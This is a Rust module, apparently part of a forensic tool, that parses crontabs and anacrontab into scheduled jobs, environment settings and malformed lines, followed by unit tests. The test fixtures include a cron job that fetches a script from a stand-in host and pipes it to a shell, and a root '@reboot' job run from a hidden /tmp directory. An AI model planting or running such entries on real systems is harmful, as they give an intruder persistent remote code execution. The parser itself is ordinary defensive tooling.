//! Crontabs and anacrontab.
//!
//! - **System crontabs** (`/etc/crontab`, `/etc/cron.d/*`): `min hour dom mon dow user command`,
//!   or `@reboot user command` (and the other `@` nicknames).
//! - **User crontabs** (`/var/spool/cron/crontabs/<user>` on Debian, `/var/spool/cron/<user>`
//!   on Red Hat): the same without the user field; the owner is the file name.
//! - **anacrontab** (`/etc/anacrontab`): `period delay job-id command`.
//!
//! Blank lines, comments and `NAME=value` environment lines are skipped (the environment lines
//! are returned separately: `SHELL=`, `PATH=` or `LD_PRELOAD=` set for the jobs matter too).

use serde::Serialize;

use super::lossy;

/// One scheduled job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CronEntry {
    /// 1-based line number.
    pub line: usize,
    /// The schedule as written (`*/5 * * * *`, `@reboot`, anacron `1 5 cron.daily`).
    pub schedule: String,
    /// The user field of system crontabs.
    pub user: Option<String>,
    /// The command.
    pub command: String,
}

/// One `NAME=value` line of a crontab.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CronEnv {
    /// 1-based line number.
    pub line: usize,
    /// Variable name.
    pub name: String,
    /// Value (quotes kept).
    pub value: String,
}

/// A parsed crontab.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Crontab {
    /// Jobs.
    pub entries: Vec<CronEntry>,
    /// Environment settings.
    pub env: Vec<CronEnv>,
    /// Lines that are neither (line number, text): malformed, or hand-crafted.
    pub malformed: Vec<(usize, String)>,
}

fn env_line(line: &str) -> Option<(String, String)> {
    let (name, value) = line.split_once('=')?;
    let name = name.trim();
    (!name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        .then(|| (name.to_string(), value.trim().to_string()))
}

/// Splits off `n` whitespace-separated fields, returning them and the rest of the line.
fn fields(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
    let mut out = Vec::with_capacity(n);
    let mut rest = line.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace)?;
        out.push(&rest[..end]);
        rest = rest[end..].trim_start();
    }
    Some((out, rest))
}

/// Parses a crontab; `system` when lines carry a user field.
pub fn parse_crontab(data: &[u8], system: bool) -> Crontab {
    let mut tab = Crontab::default();
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = lossy(raw);
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let n = i + 1;
        if !trimmed.starts_with('@')
            && !trimmed.starts_with(|c: char| c.is_ascii_digit() || c == '*')
        {
            if let Some((name, value)) = env_line(trimmed) {
                tab.env.push(CronEnv {
                    line: n,
                    name,
                    value,
                });
                continue;
            }
        }
        let time_fields = if trimmed.starts_with('@') { 1 } else { 5 };
        let want = time_fields + usize::from(system);
        match fields(trimmed, want) {
            Some((f, command)) if !command.is_empty() => {
                let (schedule, user) = if system {
                    (f[..time_fields].join(" "), f.last().map(|u| u.to_string()))
                } else {
                    (f.join(" "), None)
                };
                tab.entries.push(CronEntry {
                    line: n,
                    schedule,
                    user,
                    command: command.to_string(),
                });
            }
            _ => tab.malformed.push((n, line.clone())),
        }
    }
    tab
}

/// Parses `/etc/anacrontab` (`period delay job-id command`).
pub fn parse_anacrontab(data: &[u8]) -> Crontab {
    let mut tab = Crontab::default();
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = lossy(raw);
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let n = i + 1;
        if let Some((name, value)) = env_line(trimmed).filter(|_| !trimmed.starts_with('@')) {
            if !trimmed.starts_with(|c: char| c.is_ascii_digit()) {
                tab.env.push(CronEnv {
                    line: n,
                    name,
                    value,
                });
                continue;
            }
        }
        match fields(trimmed, 3) {
            Some((f, command)) if !command.is_empty() => tab.entries.push(CronEntry {
                line: n,
                schedule: f.join(" "),
                user: None,
                command: command.to_string(),
            }),
            _ => tab.malformed.push((n, line.clone())),
        }
    }
    tab
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEBIAN_CRONTAB: &[u8] = b"# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n@reboot root /tmp/.x/run\n#\n";

    #[test]
    fn system_crontab() {
        let tab = parse_crontab(DEBIAN_CRONTAB, true);
        assert_eq!(tab.env.len(), 2);
        assert_eq!(tab.entries.len(), 3);
        assert_eq!(tab.entries[0].schedule, "17 * * * *");
        assert_eq!(tab.entries[0].user.as_deref(), Some("root"));
        assert_eq!(
            tab.entries[0].command,
            "cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(tab.entries[0].line, 5);
        assert_eq!(tab.entries[2].schedule, "@reboot");
        assert_eq!(tab.entries[2].command, "/tmp/.x/run");
    }

    #[test]
    fn user_crontab() {
        let tab = parse_crontab(
            b"*/5 * * * * curl -fsSL http://x/a | sh\nMAILTO=\"\"\n",
            false,
        );
        assert_eq!(tab.entries[0].command, "curl -fsSL http://x/a | sh");
        assert_eq!(tab.entries[0].user, None);
        assert_eq!(tab.env[0].name, "MAILTO");
    }

    #[test]
    fn anacrontab() {
        let tab = parse_anacrontab(b"SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly\n");
        assert_eq!(tab.entries.len(), 2);
        assert_eq!(
            tab.entries[1].command,
            "run-parts --report /etc/cron.monthly"
        );
    }

    #[test]
    fn garbage_and_truncated_input() {
        let tab = parse_crontab(b"* * *\n\xff\xfe\n@reboot\n", true);
        assert_eq!(tab.entries.len(), 0);
        assert_eq!(tab.malformed.len(), 3);
        let _ = parse_anacrontab(b"1 2\n\x00\n");
    }
}
